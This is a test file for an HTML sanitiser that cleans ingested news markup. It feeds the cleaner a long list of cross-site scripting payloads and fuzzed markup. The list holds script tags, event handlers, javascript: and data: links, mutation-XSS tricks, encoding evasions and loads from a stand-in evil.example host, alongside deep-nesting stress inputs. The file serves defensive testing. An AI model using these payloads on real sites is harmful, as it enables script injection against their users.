import * as fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { cleanHtml } from '../../../src/ingest/markup/clean-html.js';
import { plainText } from '../../../src/ingest/markup/plain-text.js';
import { textOfCleanHtml } from '../../../src/ingest/markup/text-of-clean-html.js';

const BASE = 'https://news.example/2026/a.html';

const ELEMENTS = new Set(
  (
    'a abbr b bdi bdo cite code del dfn em i ins kbd mark q rp rt ruby s samp small span strong sub sup time u var p h2 h3 h4 h5 h6 ul ol li ' +
    'blockquote figure figcaption pre table caption thead tbody tfoot tr th td dl dt dd audio video details summary br hr img source'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  (
    'href src alt title width height lang dir cite datetime colspan rowspan scope start type reversed value poster open ' +
    'controls'
  ).split(' '),
);

/** What in cleaned markup could do anything: every tag, attribute and link that is not on the list. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ELEMENTS.has(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.has(attribute)) found.push(attribute);
        if (['src', 'poster', 'cite'].includes(attribute) && !/^https?:\/\/[^/]/.test(value)) found.push(value);
        if (attribute === 'href' && !/^(https?:\/\/[^/]|mailto:|tel:)/.test(value)) found.push(value);
      }
    },
    oncomment: comment => found.push(`<!--${comment}`),
    onprocessinginstruction: (_, data) => found.push(`<${data}`),
  });
  parser.end(html);
  return found;
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/src="data:,alert(1)">',
  '<script\n>alert(1)</script\t>',
  '<script>alert(1)',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<template><script>alert(1)</script></template>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror\n=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<img """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=`javascript:alert(1)`>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="javascript:alert(1) 1x, x onerror=alert(1) 2x">',
  '<img data-src="javascript:alert(1)">',
  '<img src="https://a.example/x.png" alt=\'"><script>alert(1)</script>\'>',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="jar:javascript:alert(1)!/">x</a>',
  '<a href="https://a.example/" target="_blank" ping="https://evil.example/">x</a>',
  '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href=\'https://a.example/" onmouseover="alert(1)\'>x</a>',
  '<a/href="javascript:alert(1)"/onclick=alert(1)>x</a>',
  '<q cite="javascript:alert(1)">x</q>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<video poster="javascript:alert(1)" src="https://a.example/v.mp4" onloadstart=alert(1)></video>',
  '<video><source onerror=alert(1) src="javascript:alert(1)"></video>',
  '<audio src=x onerror=alert(1) autoplay></audio>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<object data="data:text/html,<script>alert(1)</script>"><p>x</p></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
  '<applet code="x" archive="https://evil.example/x.jar"></applet>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button><input autofocus onfocus=alert(1)></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))" class=x id=__proto__ name=constructor>x</div>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<body onload=alert(1) background="javascript:alert(1)">x',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p onclick=alert(1) ONCLICK=alert(2) on\u017fclick=1 accesskey=x tabindex=1 contenteditable is=x-y slot=z>x</p>',
  "<p lang='vi\" onclick=\"alert(1)' dir='\"><script>'>x</p>",
  '<td colspan="1&quot; onclick=&quot;alert(1)">x</td>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<![CD<![CDATA[ATA[<script>alert(1)</script>]]>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '</script><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<p>a</p\u0338>\u0338<b>\u0338x</b>',
  '\u202e<script>alert(1)</script>',
  '<a\u00a0href="javascript:alert(1)">x</a>',
  '<constructor><__proto__ toString=x>x</__proto__></constructor>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<ａ href="javascript:alert(1)">x</ａ>',
  '<dialog open><p onbeforetoggle=alert(1) popover>x</p></dialog>',
  '<x-widget onclick=alert(1)><slot>x</slot></x-widget>',
];

test.each(ATTACKS)('nothing of %j acts', attack => {
  for (const html of [
    attack,
    `<p>before</p>${attack}<p>after</p>`,
    `<ul><li>${attack}`,
    `<a href="${attack}">x</a>`,
    attack.repeat(3),
  ]) {
    const cleaned = cleanHtml(html, BASE);

    expect(dangers(cleaned)).toEqual([]);
    expect(cleanHtml(cleaned, null)).toBe(cleaned);
  }
});

const PIECES = fc.oneof(
  fc.constantFrom(...ATTACKS),
  fc
    .tuple(
      fc.constantFrom('<', '</'),
      fc.constantFrom(
        ...ELEMENTS,
        'div',
        'h1',
        'section',
        'font',
        'svg',
        'button',
        'noscript',
        'option',
        'center',
        'iframe',
        'x-y',
      ),
      fc.constantFrom(
        '>',
        '/>',
        ' lang=vi>',
        ' dir=rtl>',
        ' href="/x?a=1&b=2">',
        ' src=//c.example/y>',
        ' title="&quot;<b>">',
        ' alt=x\u0338>',
      ),
    )
    .map(parts => parts.join('')),
  fc.constantFrom(
    ' ',
    '\n',
    '\t',
    '&nbsp;',
    'từ',
    'e\u0302',
    '\u0301',
    '\u0338',
    '&lt;',
    '&',
    '"',
    'word ',
    ' word',
    '\r\n',
    '&#13;',
    '\u3000',
    'ກ',
    '؟',
  ),
  fc.string({ unit: 'binary', maxLength: 6 }),
);
const MARKUP = fc.array(PIECES, { maxLength: 30 }).map(pieces => pieces.join(''));

test('nothing acts, whatever the markup is put together from', () => {
  fc.assert(
    fc.property(MARKUP, html => {
      expect(dangers(cleanHtml(html, BASE))).toEqual([]);
    }),
    { numRuns: 1500 },
  );
});

test('what is clean stays as it is', () => {
  fc.assert(
    fc.property(MARKUP, html => {
      const cleaned = cleanHtml(html, BASE);
      expect(cleanHtml(cleaned, null)).toBe(cleaned);
      expect(cleanHtml(cleaned, 'https://other.example/')).toBe(cleaned);
      expect(cleaned.normalize('NFC')).toBe(cleaned);
      expect(cleaned).not.toMatch(/\p{Surrogate}/u);
    }),
    { numRuns: 1500 },
  );
});

test('every visible word is kept, and none are run together', () => {
  fc.assert(
    fc.property(MARKUP, html => {
      expect(plainText(cleanHtml(html, BASE)).split(/\s+/)).toEqual(plainText(html).split(/\s+/));
    }),
    { numRuns: 1500 },
  );
});

test('the text of what is clean is the same whether it is parsed or not', () => {
  fc.assert(
    fc.property(MARKUP, html => {
      const cleaned = cleanHtml(html, BASE);
      expect(textOfCleanHtml(cleaned)).toBe(plainText(cleaned));
    }),
    { numRuns: 1500 },
  );
});

test('no page can make itself larger than a few times its size', () => {
  const formatting = `<a href="https://a.example/${'y'.repeat(7000)}"><b><i><u>`;
  const html = formatting + '<p>x'.repeat(20_000);

  expect(cleanHtml(html, BASE).length).toBeLessThan(html.length * 6);
});

test.each([
  ['elements in elements', '<i>'.repeat(100_000) + 'word'],
  ['blocks in blocks', '<div>'.repeat(100_000) + 'word'],
  ['tables in tables', '<table><tr><td>'.repeat(30_000) + 'word'],
  ['lists in lists', '<ul><li>'.repeat(50_000) + 'word'],
  ['ends without beginnings', 'word' + '<b>'.repeat(50_000) + '</i>'.repeat(50_000)],
  ['attributes', `<p ${'a=b '.repeat(100_000)}>word</p>`],
  ['commas in a srcset', `<img srcset="${','.repeat(500_000)}x">word`],
  ['marks on a letter', `word ${'\u0301\u0323'.repeat(100_000)}`],
  ['comments that begin', 'word' + '<!--'.repeat(100_000)],
])('reads 100,000 %s', (_, html) => {
  expect(plainText(cleanHtml(html, BASE))).toMatch(/^word/);
});
